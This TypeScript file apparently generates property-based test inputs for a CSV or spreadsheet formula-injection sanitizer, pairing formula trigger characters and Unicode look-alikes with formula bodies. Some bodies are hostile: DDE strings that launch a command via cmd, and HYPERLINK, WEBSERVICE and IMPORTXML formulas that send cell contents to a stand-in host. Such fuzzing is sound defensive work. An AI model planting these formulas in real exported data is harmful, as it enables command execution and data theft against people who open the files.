import fc from 'fast-check';

const trigger = fc.constantFrom('=', '+', '-', '@', '\t=', '\r=', '\n=', '\u0000=', '\uff1d', '\uff0b', '\uff0d', '\uff20', '\u2212', ' =', '\u00a0=', "'=", '"=', '""=', '\ufeff=', '\u200b=', '=-', '+-@', ';=', 'x;=', 'x\n=', 'x\r\n@', '",=', '"\n=', '\t', '\r', '=\t', 'x\t=', '\u2028=', '%0A=', "''=");
const body = fc.constantFrom(
  '1+1', "cmd|' /C calc'!A0", 'HYPERLINK("http://kwaad.example/"&A1,"klik")', 'SUM(A1:A9)', 'WEBSERVICE("http://kwaad.example/")', 'IMPORTXML(CONCAT("http://kwaad.example/?v=",A1),"//a")', '2', 'A1', "DDE(\"cmd\";\"/C calc\";\"__DdeLink\")", 'NOW()', 'R1C1', '{1;2}', '"a"&"b"', 'TRUE', '1;=1+1', '1,=1+1', '1\n=1+1',
);
/** Texts that a spreadsheet might take for a formula, and some that it should not. */
export const payload = fc.oneof(
  { weight: 6, arbitrary: fc.tuple(trigger, body).map(([front, rest]) => front + rest) },
  { weight: 2, arbitrary: fc.tuple(fc.string({ unit: 'binary', maxLength: 6 }), trigger, body).map((parts) => parts.join('')) },
  { weight: 1, arbitrary: fc.tuple(trigger, fc.string({ unit: 'grapheme', maxLength: 12 })).map((parts) => parts.join('')) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
);
